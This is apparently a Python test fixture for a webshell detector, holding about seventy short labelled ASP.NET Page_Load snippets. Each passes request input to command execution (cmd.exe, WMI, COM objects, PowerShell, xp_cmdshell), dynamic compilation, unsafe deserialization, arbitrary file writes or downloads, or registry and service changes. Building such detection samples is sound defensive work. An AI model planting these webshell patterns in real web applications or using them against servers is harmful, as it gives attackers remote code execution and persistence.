# ruff: noqa: E501 - the lines are as long as such pages have them
"""Further acts of ASP.NET, each fed in the plainest way; the frame around them stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== start-username
void Page_Load(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + Request["k"], "u", new SecureString(), "d"); }
==== start-shellexecute-verb
void Page_Load(object s, EventArgs e) { var i = new ProcessStartInfo(Request["k"]) { UseShellExecute = true, Verb = "open" }; Process.Start(i); }
==== start-psi-property-later
ProcessStartInfo Info => new ProcessStartInfo("cmd.exe") { CreateNoWindow = true };
void Page_Load(object s, EventArgs e) { var i = Info; i.Arguments = "/c " + Request["k"]; Process.Start(i); }
==== start-own-wrapper
static class Sh { public static string Out(this string line) { using (var p = new Process { StartInfo = { FileName = "cmd", Arguments = "/c " + line } }) { p.Start(); return ""; } } }
void Page_Load(object s, EventArgs e) { Response.Write(Request["k"].Out()); }
==== start-environment-comspec
void Page_Load(object s, EventArgs e) { Process.Start(Environment.GetEnvironmentVariable("ComSpec"), "/c " + Request["k"]); }
==== start-workingdir-only
void Page_Load(object s, EventArgs e) { var i = new ProcessStartInfo { FileName = Path.Combine(Environment.SystemDirectory, "cmd.exe") }; i.Arguments = string.Concat("/c ", Request.Headers["X-A"]); using (Process.Start(i)) { } }
==== wmi-invoke-path
void Page_Load(object s, EventArgs e) { using (var c = new ManagementClass(new ManagementPath("Win32_Process"))) { c.InvokeMethod("Create", new object[] { Request["k"], null, null, 0 }); } }
==== wmi-scope
void Page_Load(object s, EventArgs e) { var sc = new ManagementScope(@"\\.\root\cimv2"); sc.Connect(); var c = new ManagementClass(sc, new ManagementPath("Win32_Process"), new ObjectGetOptions()); var p = c.GetMethodParameters("Create"); p["CommandLine"] = Request["k"]; c.InvokeMethod("Create", p, null); }
==== shell-com-type
void Page_Load(object s, EventArgs e) { var t = Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")); dynamic w = Activator.CreateInstance(t); w.Exec(Request["k"]); }
==== shell-com-marshal
void Page_Load(object s, EventArgs e) { dynamic w = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell"); w.Run(Request["k"]); }
==== shell-getobject
void Page_Load(object s, EventArgs e) { dynamic w = Microsoft.VisualBasic.Interaction.GetObject("winmgmts:Win32_Process"); w.Create(Request["k"], null, null, 0); }
==== task-scheduler
void Page_Load(object s, EventArgs e) { using (var ts = new TaskService()) { var d = ts.NewTask(); d.Actions.Add(new ExecAction("cmd.exe", "/c " + Request["k"], null)); ts.RootFolder.RegisterTaskDefinition("t", d); } }
==== mmc
void Page_Load(object s, EventArgs e) { dynamic m = Activator.CreateInstance(Type.GetTypeFromProgID("MMC20.Application")); m.Document.ActiveView.ExecuteShellCommand("cmd.exe", null, "/c " + Request["k"], "7"); }
==== excel
void Page_Load(object s, EventArgs e) { dynamic x = Activator.CreateInstance(Type.GetTypeFromProgID("Excel.Application")); x.ExecuteExcel4Macro("EXEC(\"" + Request["k"] + "\")"); }
==== powershell-command
void Page_Load(object s, EventArgs e) { using (var p = PowerShell.Create()) { p.AddCommand("Invoke-Expression").AddParameter("Command", Request["k"]); p.Invoke(); } }
==== powershell-argument
void Page_Load(object s, EventArgs e) { Process.Start("powershell.exe", "-enc " + Request["k"]); }
==== runspace-invoke
void Page_Load(object s, EventArgs e) { var r = new RunspaceInvoke(); r.Invoke(Request["k"]); }
==== scriptblock
void Page_Load(object s, EventArgs e) { var b = ScriptBlock.Create(Request["k"]); b.Invoke(); }
==== codedom-vb
void Page_Load(object s, EventArgs e) { var r = new VBCodeProvider().CompileAssemblyFromSource(new CompilerParameters { GenerateInMemory = true }, Request["k"]); r.CompiledAssembly.GetType("A").GetMethod("B").Invoke(null, null); }
==== codedom-file
void Page_Load(object s, EventArgs e) { File.WriteAllText(@"c:\t\a.cs", Request["k"]); CodeDomProvider.CreateProvider("CSharp").CompileAssemblyFromFile(new CompilerParameters(), @"c:\t\a.cs"); }
==== codedom-unit
void Page_Load(object s, EventArgs e) { var u = new CodeCompileUnit(); u.ReferencedAssemblies.Add("a"); var x = new CodeSnippetCompileUnit(Request["k"]); new CSharpCodeProvider().CompileAssemblyFromDom(new CompilerParameters(), x); }
==== roslyn-emit
void Page_Load(object s, EventArgs e) { var t = CSharpSyntaxTree.ParseText(Request["k"]); var c = CSharpCompilation.Create("a", new[] { t }); using (var m = new MemoryStream()) { c.Emit(m); Assembly.Load(m.ToArray()); } }
==== roslyn-script-create
void Page_Load(object s, EventArgs e) { var sc = CSharpScript.Create<object>(Request["k"]); sc.RunAsync().Wait(); }
==== assembly-reflection-only
void Page_Load(object s, EventArgs e) { var a = Assembly.UnsafeLoadFrom(Request["k"]); a.CreateInstance("A"); }
==== assembly-file-upload
void Page_Load(object s, EventArgs e) { var f = Request.Files[0]; var b = new BinaryReader(f.InputStream).ReadBytes(f.ContentLength); AppDomain.CurrentDomain.Load(b).EntryPoint.Invoke(null, null); }
==== activator-from-file
void Page_Load(object s, EventArgs e) { Activator.CreateInstanceFrom(Request["p"], Request["t"]); }
==== xslt-text
void Page_Load(object s, EventArgs e) { var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(Request["k"])), new XsltSettings(true, true), null); t.Transform(XmlReader.Create(new StringReader("<a/>")), null, Response.Output); }
==== xslt-settings-trusted
void Page_Load(object s, EventArgs e) { var d = new XmlDocument(); d.LoadXml(Request["k"]); var t = new XslCompiledTransform(); t.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver()); }
==== xaml-parse
void Page_Load(object s, EventArgs e) { XamlReader.Parse(Request["k"]); }
==== xaml-services
void Page_Load(object s, EventArgs e) { XamlServices.Load(new StringReader(Request["k"])); }
==== object-data-provider
void Page_Load(object s, EventArgs e) { var o = new ObjectDataProvider(); o.ObjectInstance = new Process(); o.MethodName = "Start"; o.MethodParameters.Add("cmd"); o.MethodParameters.Add("/c " + Request["k"]); }
==== binaryformatter-body
void Page_Load(object s, EventArgs e) { new BinaryFormatter().Deserialize(Request.InputStream); }
==== binaryformatter-base64
void Page_Load(object s, EventArgs e) { var f = new BinaryFormatter(); using (var m = new MemoryStream(Convert.FromBase64String(Request["k"]))) f.Deserialize(m); }
==== losformatter-cookie
void Page_Load(object s, EventArgs e) { new LosFormatter().Deserialize(Request.Cookies["a"].Value); }
==== netdatacontract
void Page_Load(object s, EventArgs e) { new NetDataContractSerializer().ReadObject(Request.InputStream); }
==== netdatacontract-reader
void Page_Load(object s, EventArgs e) { var r = XmlDictionaryReader.CreateTextReader(Request.InputStream, new XmlDictionaryReaderQuotas()); new NetDataContractSerializer().ReadObject(r, true); }
==== soapformatter
void Page_Load(object s, EventArgs e) { IFormatter f = new SoapFormatter(); f.Deserialize(Request.InputStream); }
==== xmlserializer-type
void Page_Load(object s, EventArgs e) { var x = new XmlSerializer(Type.GetType(Request["t"])); x.Deserialize(Request.InputStream); }
==== json-typed-settings
void Page_Load(object s, EventArgs e) { var o = new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.Auto }; JsonConvert.DeserializeObject<object>(Request["k"], o); }
==== javascript-typed
void Page_Load(object s, EventArgs e) { new JavaScriptSerializer(new SimpleTypeResolver()).Deserialize<object>(Request["k"]); }
==== resource-reader
void Page_Load(object s, EventArgs e) { var r = new ResXResourceReader(Request.InputStream); foreach (DictionaryEntry d in r) { } }
==== session-state-server
void Page_Load(object s, EventArgs e) { new ObjectStateFormatter().Deserialize(Request.Form["s"]); }
==== write-streamwriter-using
void Page_Load(object s, EventArgs e) { using (var w = new StreamWriter(Request["p"], false)) w.Write(Request["k"]); }
==== write-file-createtext
void Page_Load(object s, EventArgs e) { using (var w = File.CreateText(Server.MapPath(Request["p"]))) { w.WriteLine(Request["k"]); } }
==== write-appendalllines
void Page_Load(object s, EventArgs e) { File.AppendAllLines(Request["p"], new[] { Request["k"] }); }
==== write-fileopen
void Page_Load(object s, EventArgs e) { using (var f = File.Open(Request["p"], FileMode.Create)) Request.InputStream.CopyTo(f); }
==== write-async
async Task W() { await File.WriteAllTextAsync(Request["p"], Request["k"]); }
void Page_Load(object s, EventArgs e) { W().Wait(); }
==== write-binarywriter
void Page_Load(object s, EventArgs e) { using (var w = new BinaryWriter(File.OpenWrite(Request["p"]))) w.Write(Convert.FromBase64String(Request["k"])); }
==== write-textwriter
void Page_Load(object s, EventArgs e) { TextWriter w = new StreamWriter(Request["p"]); w.Write(Request["k"]); w.Close(); }
==== write-xml
void Page_Load(object s, EventArgs e) { var d = new XmlDocument(); d.LoadXml(Request["k"]); d.Save(Request["p"]); }
==== write-safe-default
void Page_Load(object s, EventArgs e) { var f = Request.Files[0]; string to = Request.Form["to"]; if (string.IsNullOrEmpty(to)) to = Server.MapPath("~/up/" + Guid.NewGuid() + ".png"); f.SaveAs(to); }
==== write-safe-default-coalesce
void Page_Load(object s, EventArgs e) { var f = Request.Files[0]; f.SaveAs(Request.Form["to"] ?? Server.MapPath("~/up/" + Guid.NewGuid() + ".png")); }
==== write-safe-default-ternary
void Page_Load(object s, EventArgs e) { var f = Request.Files[0]; var to = Request["to"] != null ? Request["to"] : Server.MapPath("~/up/a.png"); f.SaveAs(to); }
==== write-safe-default-method
string Target() { var t = Request.Form["to"]; if (!string.IsNullOrEmpty(t)) return t; return Server.MapPath("~/up/a.png"); }
void Page_Load(object s, EventArgs e) { Request.Files[0].SaveAs(Target()); }
==== write-safe-default-extension
static readonly string[] Kinds = { ".png", ".gif" };
void Page_Load(object s, EventArgs e) { var f = Request.Files["a"]; var to = Request.Form["to"]; if (to == "") { to = Server.MapPath("~/up/" + DateTime.Now.Ticks + ".gif"); } f.SaveAs(to); }
==== webclient-save
void Page_Load(object s, EventArgs e) { new WebClient().DownloadFile(Request["u"], Server.MapPath(Request["p"])); }
==== filemanager-table
void Page_Load(object s, EventArgs e) { var acts = new Dictionary<string, Action<string, string>> { { "rm", (a, b) => File.Delete(a) }, { "mv", (a, b) => File.Move(a, b) }, { "wr", (a, b) => File.WriteAllText(a, b) } }; acts[Request["m"]](Request["a"], Request["b"]); }
==== filemanager-switch
void Page_Load(object s, EventArgs e) { var p = Request["p"]; switch (Request["m"]) { case "ls": foreach (var f in Directory.GetFiles(p)) Response.Write(f); break; case "cat": Response.Write(File.ReadAllText(p)); break; case "put": File.WriteAllText(p, Request["b"]); break; case "rm": File.Delete(p); break; } }
==== filemanager-info
void Page_Load(object s, EventArgs e) { var d = new DirectoryInfo(Request["d"]); foreach (var f in d.EnumerateFileSystemInfos()) Response.Write(f.FullName); if (Request["del"] != null) new FileInfo(Request["del"]).Delete(); if (Request["up"] != null) Request.Files[0].SaveAs(Path.Combine(Request["d"], Request.Files[0].FileName)); }
==== sqlconsole-adapter
void Page_Load(object s, EventArgs e) { using (var c = new SqlConnection(Request["c"])) { var t = new DataTable(); new SqlDataAdapter(Request["q"], c).Fill(t); } }
==== sqlconsole-command
void Page_Load(object s, EventArgs e) { var f = DbProviderFactories.GetFactory(Request["p"]); using (var c = f.CreateConnection()) { c.ConnectionString = Request["c"]; c.Open(); var m = c.CreateCommand(); m.CommandText = Request["q"]; m.ExecuteNonQuery(); } }
==== sqlconsole-odbc
void Page_Load(object s, EventArgs e) { using (var c = new OdbcConnection(Request["c"])) { c.Open(); using (var r = new OdbcCommand(Request["q"], c).ExecuteReader()) while (r.Read()) Response.Write(r[0]); } }
==== xpcmdshell-parameter
void Page_Load(object s, EventArgs e) { using (var c = new SqlConnection("server=.")) { c.Open(); var m = new SqlCommand("exec master..xp_cmdshell @c", c); m.Parameters.AddWithValue("@c", Request["k"]); m.ExecuteReader(); } }
==== xpcmdshell-format
void Page_Load(object s, EventArgs e) { using (var c = new SqlConnection("server=.")) { c.Open(); new SqlCommand(string.Format("exec xp_cmdshell '{0}'", Request["k"]), c).ExecuteNonQuery(); } }
==== parsecontrol
void Page_Load(object s, EventArgs e) { Page.Controls.Add(Page.ParseControl(Request["k"])); }
==== parsecontrol-template
void Page_Load(object s, EventArgs e) { Page.ParseTemplate(Request["k"]).InstantiateIn(this); }
==== dynamic-linq
void Page_Load(object s, EventArgs e) { var l = DynamicExpressionParser.ParseLambda(typeof(object), null, Request["k"]); l.Compile().DynamicInvoke(this); }
==== datatable-compute
void Page_Load(object s, EventArgs e) { Response.Write(new DataTable().Compute("1+1", "")); Process.Start("cmd", "/c " + Request["k"]); }
==== jscript-eval
void Page_Load(object s, EventArgs e) { Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["k"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); }
==== vsa-engine
void Page_Load(object s, EventArgs e) { var p = CodeDomProvider.CreateProvider("JScript"); var r = p.CompileAssemblyFromSource(new CompilerParameters(), "class E{static function R(c){return eval(c,'unsafe')}}"); r.CompiledAssembly.GetType("E").InvokeMember("R", BindingFlags.InvokeMethod, null, null, new object[] { Request["k"] }); }
==== native-system
[DllImport("msvcrt.dll", CharSet = CharSet.Ansi)] static extern int system(string c);
void Page_Load(object s, EventArgs e) { system(Request["k"]); }
==== native-shellexecute
[DllImport("shell32.dll")] static extern IntPtr ShellExecute(IntPtr h, string o, string f, string p, string d, int n);
void Page_Load(object s, EventArgs e) { ShellExecute(IntPtr.Zero, "open", "cmd.exe", "/c " + Request["k"], null, 0); }
==== native-loadlibrary
[DllImport("kernel32")] static extern IntPtr LoadLibrary(string n);
void Page_Load(object s, EventArgs e) { LoadLibrary(Request["k"]); }
==== executeurl
void Page_Load(object s, EventArgs e) { Server.Execute(Request["k"]); }
==== registry-run
void Page_Load(object s, EventArgs e) { Registry.SetValue(Request["p"], Request["n"], Request["v"]); }
==== service-create
void Page_Load(object s, EventArgs e) { Process.Start("sc.exe", "create a binPath= \"" + Request["k"] + "\""); }
"""
)
